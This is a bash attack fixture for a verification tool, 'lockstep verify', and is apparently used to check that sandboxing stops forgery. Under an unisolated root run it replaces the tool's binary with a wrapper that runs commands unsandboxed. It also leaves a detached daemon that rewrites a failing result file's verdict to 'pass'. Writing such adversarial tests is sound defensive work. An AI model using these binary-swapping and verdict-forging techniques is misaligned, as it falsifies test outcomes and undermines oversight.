#!/bin/bash
# An attack fixture for `lockstep verify`: the same tests as writes-outside
# (a cache in /srv, which no generic base grants), so its cell must fail.
# Run as root with no sandbox (the reference run), it tries to forge the
# cell instead: it renames a wrapper over the guest's lockstep binary, which
# runs the joint runs' command unsandboxed (they then agree with the
# reference), and leaves a setsid daemon that rewrites the cell to a pass
# once it is written. Isolated, the reference run can do neither: the
# binary is read-only to it and executed through a descriptor, and the
# daemon dies with the run.
set -euo pipefail
run=/run/lockstep
if touch "$run/.forges-reference" 2>/dev/null && [ ! -e "$run/lockstep.real" ]; then
  cp "$run/lockstep" "$run/lockstep.real"
  printf '[read]\n%s\n[execute]\n%s\n' "$run/lockstep.real" "$run/lockstep.real" >"$run/extra.cfg"
  cat >"$run/lockstep.fake" <<'WRAPPER'
#!/bin/bash
real=/run/lockstep/lockstep.real
if [ "$1" != run ]; then exec $real "$@"; fi
pre=()
while [ $# -gt 0 ] && [ "$1" != "--" ]; do pre+=("$1"); shift; done
shift
if [ "$1" = /run/lockstep/lockstep ]; then
  shift
  exec $real "${pre[@]}" --config /run/lockstep/extra.cfg -- $real "$@"
fi
exec "$@"
WRAPPER
  chmod +x "$run/lockstep.fake"
  mv "$run/lockstep.fake" "$run/lockstep"
  echo "forges-reference: replaced $run/lockstep" >&2
fi
setsid bash -c 'cell=/run/lockstep/results/cell.json
  for _ in $(seq 3000); do
    if [ -s "$cell" ] && grep -q "\"verdict\": \"fail\"" "$cell"; then
      sed -i "s/\"verdict\": \"fail\"/\"verdict\": \"pass\"/; /\"why\"/d" "$cell" && exit 0
    fi
    sleep 0.2
  done' </dev/null >/dev/null 2>&1 &
bash tests/run.sh
